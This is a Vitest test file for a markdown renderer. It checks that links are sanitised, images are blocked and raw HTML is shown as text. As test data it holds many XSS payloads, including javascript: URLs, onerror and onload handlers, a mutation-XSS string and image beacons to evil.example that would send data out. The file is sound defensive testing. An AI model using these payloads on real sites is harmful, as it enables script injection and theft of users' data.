// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./renderMarkdown.ts";

const render = (text: string) => {
  const box = document.createElement("div");
  box.innerHTML = renderMarkdown(text);
  return box;
};

describe("renderMarkdown", () => {
  it("renders what people write", () => {
    const box = render("**bold** and `code`\n\n- one\n- two");
    expect(box.querySelector("strong")?.textContent).toBe("bold");
    expect(box.querySelectorAll("li")).toHaveLength(2);
  });

  it("opens http, https and mailto links apart", () => {
    const link = render("[shop](https://shop.example/a?b=1)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://shop.example/a?b=1");
    expect(link?.rel).toBe("noopener nofollow ugc");
    expect(link?.target).toBe("_blank");
    expect(render("[write](mailto:a@b.example)").querySelector("a")?.hasAttribute("href")).toBe(true);
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](&#106;avascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
  ])("X51: never links %j", (text) => expect(render(text).querySelector("a[href]")).toBeNull());

  it.each([
    "![](https://evil.example/?q=secret)",
    "[![x](https://evil.example/1.png)](https://evil.example/2)",
    "<img src=https://evil.example>",
    '<svg><image href="https://evil.example"/></svg>',
  ])("X52: never loads an image of %j", (text) =>
    expect(render(text).querySelector("img,svg,image,picture,video,source,iframe,object,link,style")).toBeNull(),
  );

  it.each([
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><input name=attributes></form>",
    "<iframe src=javascript:alert(1)>",
    '<p style="background:url(https://evil.example)" onclick=alert(1)>x</p>',
  ])("X49: shows %j as text", (text) => {
    const box = render(text);
    for (const element of box.querySelectorAll("*")) {
      expect(
        element.getAttributeNames().filter((name) => name !== "href" && name !== "rel" && name !== "target"),
      ).toEqual([]);
      expect(["IMG", "SVG", "MATH", "STYLE", "FORM", "INPUT", "IFRAME", "SCRIPT"]).not.toContain(
        element.tagName.toUpperCase(),
      );
    }
    expect(box.textContent).toContain("<");
  });

  it("takes marks that turn the reading direction out of links", () => {
    const link = render("[https://good.example/\u202Emoc.live](https://evil.example)").querySelector("a");
    expect(link?.textContent).not.toMatch(/[\u202A-\u202E]/);
  });
});
